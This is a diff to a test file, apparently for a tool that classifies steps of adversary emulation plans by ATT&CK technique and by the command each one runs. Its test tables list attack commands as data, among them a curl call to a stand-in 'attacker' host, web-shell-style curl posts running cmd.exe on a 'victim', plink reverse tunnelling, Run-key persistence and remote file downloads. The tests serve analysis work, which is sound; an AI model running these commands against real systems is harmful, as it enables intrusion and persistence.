@@ -19,6 +19,12 @@ test('a step without an id is told by its name, where that is one technique of t
   expect(named('Local Account')).toContain('names no technique');
 });
 
+test('a step whose id and number changed places is told by what its technique is called', () => {
+  const step = 'technique: { attack_id: 7.A.5, name: "Input Capture: Keylogging" }\n  procedure_step: T1056.001\n';
+  const text = writtenFrom(`- emulation_plan_details: { adversary_name: x }\n- name: Keys\n  ${step}`);
+  expect(text).toContain('# Keys (T1056.001, by its name');
+});
+
 const plan = (technique: string, command: string, platform = 'windows'): string =>
   `- emulation_plan_details: { adversary_name: x }\n- name: Step\n  technique: ${technique}\n  platforms: { ${platform}: { cmd: { command: '${command}' } } }\n`;
 
@@ -34,7 +40,11 @@ test.each([
     '{ attack_id: T1082, name: "Hide Artifacts: Hidden Files & Directories" }',
     'T1564.001, T1082',
   ],
-  ['a name of before', '{ attack_id: T1552.003, name: "Unsecured Credentials: Bash History" }', '(T1552.003)'],
+  [
+    'a name of before',
+    '{ attack_id: T1552.003, name: "Unsecured Credentials: Bash History" }',
+    '(T1552.003, seen on linux)',
+  ],
   ['a name that several have', '{ attack_id: T1087.002, name: Local Account }', '(T1087.002)'],
   ['no id and no name', '{ name: x }', 'names no technique'],
 ])('%s is taken for what its author means', (_what, technique, told) => {
@@ -42,7 +52,30 @@ test.each([
 });
 
 test.each([
-  ['{ attack_id: T1033, name: x }', 'curl http://attacker/?c=whoami', 'linux', 'disc-whoami'],
+  ['{ attack_id: T1033, name: x }', 'curl http://attacker/?c=whoami', 'linux', 'disc-whoami-web'],
+  // Begun from the attacker's machine, run on a host of Windows.
+  ['{ attack_id: T1033, name: x }', 'curl -d "pro=cmd.exe" -d "c=whoami" https://victim/', 'linux', 'disc-whoami'],
+  [
+    '{ attack_id: T1049, name: x }',
+    'curl -d "pro=cmd.exe" -d "c=netstat -an" https://victim/',
+    'linux',
+    'disc-netstat',
+  ],
+  ['{ attack_id: T1070.004, name: x }', 'xdotool type "del C:\\Temp\\a.exe"', 'linux', 'evade-del'],
+  ['{ attack_id: T1021.001, name: x }', 'exec-background xfreerdp /u:#{user}', 'linux', 'lat-rdp-logon'],
+  // What is filled in, and where output goes, tells nothing.
+  ['{ attack_id: T1087.002, name: x }', 'net user /domain >> list.txt', 'windows', 'disc-net-user-domain'],
+  ['{ attack_id: T1572, name: x }', 'plink -ssh -R #{server.name}:1:2', 'windows', 'c2-plink'],
+  // What is run counts before what the technique is called, and whole texts before words.
+  ['{ attack_id: T1069.002, name: x }', 'net group /domain', 'windows', 'disc-net-group-domain'],
+  [
+    '{ attack_id: T1547.001, name: x }',
+    'reg add "HKCU\\Microsoft\\CurrentVersion\\Run" /v a',
+    'windows',
+    'persist-run-key',
+  ],
+  ['{ attack_id: T1105, name: x }', 'Start-BitsTransfer -Source "http://#{host}/a"', 'windows', 'c2-bits-download'],
+  ['{ attack_id: T1105, name: x }', 'copy \\\\TSCLIENT\\X\\a.bat a.bat', 'windows', 'c2-tsclient-copy'],
   ['{ attack_id: T1082, name: x }', 'uname -a', 'linux', 'disc-uname'],
   ['{ attack_id: T1082, name: x }', 'systeminfo', 'windows', 'disc-systeminfo'],
   ['{ attack_id: T1083, name: x }', 'find /home', 'linux', 'disc-find'],
